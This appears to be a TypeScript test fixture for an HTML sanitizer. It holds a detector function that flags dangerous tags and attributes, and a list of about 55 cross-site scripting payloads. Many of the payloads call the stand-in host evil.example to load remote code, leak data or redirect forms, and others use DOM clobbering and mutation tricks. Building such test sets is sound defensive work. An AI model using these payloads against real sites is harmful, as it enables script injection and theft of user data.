/** What must not be in a tree, whatever the markup was: told by looking at every element, not at the text. */
export const dangersIn = (box: Element): string[] => {
  const banned =
    /^(script|style|iframe|frame|object|embed|form|input|textarea|select|link|meta|base|use|animate|set|foreignobject|template|math|video|audio|source|dialog|portal)$/i
  return [...box.querySelectorAll('*')].flatMap((element) => [
    ...(banned.test(element.localName) ? [`<${element.localName}>`] : []),
    ...element.getAttributeNames().flatMap((name) => {
      const value = element.getAttribute(name) ?? ''
      const bare = [...value]
        .filter((character) => character > ' ')
        .join('')
        .toLowerCase()
      const isBad =
        /^on/i.test(name) ||
        /^(?:javascript|vbscript|data:text|data:application|blob|file|filesystem):/.test(bare) ||
        (name === 'src' && !/^(?:data:image\/|\/api\/images\/)/.test(value)) ||
        (name !== 'href' && /https?:|^\/\//.test(bare) && !['alt', 'title', 'xmlns'].includes(name)) ||
        (name === 'style' && /url|@|\\/i.test(value)) ||
        ['srcdoc', 'srcset', 'formaction', 'action', 'ping', 'background'].includes(name)
      return isBad ? [`${name}=${value}`] : []
    }),
  ])
}

/** Markup that wants to run, load, send, take typing or stand over the page. */
export const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/a 1x" src="data:text/html,x">',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x" /></svg>',
  '<svg><use xlink:href="https://evil.example/x.svg#a" /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><image href="https://evil.example/x.png" /></svg>',
  '<svg><rect fill="url(https://evil.example/x.svg#a)" /></svg>',
  '<svg><rect filter="url(//evil.example/x.svg#a)" mask=" url( https://evil.example/m )" /></svg>',
  '<svg><filter id=f><feImage href="https://evil.example/x.png" /></filter></svg>',
  '<svg><style>@import "https://evil.example/x.css";</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=dns-prefetch href="//secret.evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example" ping="https://evil.example/p">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background:\\75rl(https://evil.example/x)">x</div>',
  '<div style="background:image-set(\'https://evil.example/x\' 1x)">x</div>',
  '<div style="behavior:url(#default#time2);width:expression(alert(1))">x</div>',
  '<style>@import url(https://evil.example/x.css); * { background: url(//evil.example/y) }</style>',
  '<style><img src=x onerror=alert(1)></style>',
  '<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">x</table>',
  '<video poster="https://evil.example/x"><source src="https://evil.example/x" onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<x onclick=alert(1) tabindex=1>x</x>',
  '<input type=image src=x onerror=alert(1)>',
  '<dialog open><form method=dialog><input></form></dialog>',
  '<p id="getElementById"><img name="body"><img id="cookie">',
  '<form><input name=childNodes><input name=localName><input name=getAttribute><script>alert(1)</script></form>',
  '"><img src=x onerror=alert(1)>',
]
